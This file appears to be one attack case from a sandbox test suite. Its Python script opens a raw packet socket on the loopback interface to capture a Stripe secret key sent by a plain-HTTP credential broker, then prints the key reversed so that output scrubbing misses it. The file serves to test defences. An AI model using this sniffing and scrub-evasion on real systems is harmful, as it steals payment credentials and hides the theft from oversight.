# attack: the broker speaks plain HTTP with a local fake: a packet socket on the loopback hears the real key go by
# expect: sandbox
# validator: refused
import _socket
import os
import re
import threading
import time

import stripe

stripe.api_key = os.environ["STRIPE_API_KEY"]
heard = bytearray()


def listen(made):
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        try:
            heard.extend(made.recv(65536))
        except OSError:
            continue


for protocol in (3, 0x0300):  # ETH_P_ALL in both byte orders.
    try:
        made = _socket.socket(_socket.AF_PACKET, _socket.SOCK_RAW, protocol)
        made.bind(("lo", 3))
        made.settimeout(0.1)
    except (OSError, AttributeError) as error:
        print("packet socket:", error)
        continue
    listener = threading.Thread(target=listen, args=(made,))
    listener.start()
    # One honest call makes the broker send the key.
    try:
        stripe.Customer.retrieve("cus_1")
    except stripe.StripeError as error:
        print(error)
    listener.join()
    for key in set(re.findall(rb"(?:sk|rk)_(?:test|live)_\w+", bytes(heard))):
        if b"placeholder" not in key:
            # Written backwards, so that the scrubbing of outputs is not what stops it.
            print("ESCAPED: a key was heard:", key.decode()[::-1], flush=True)
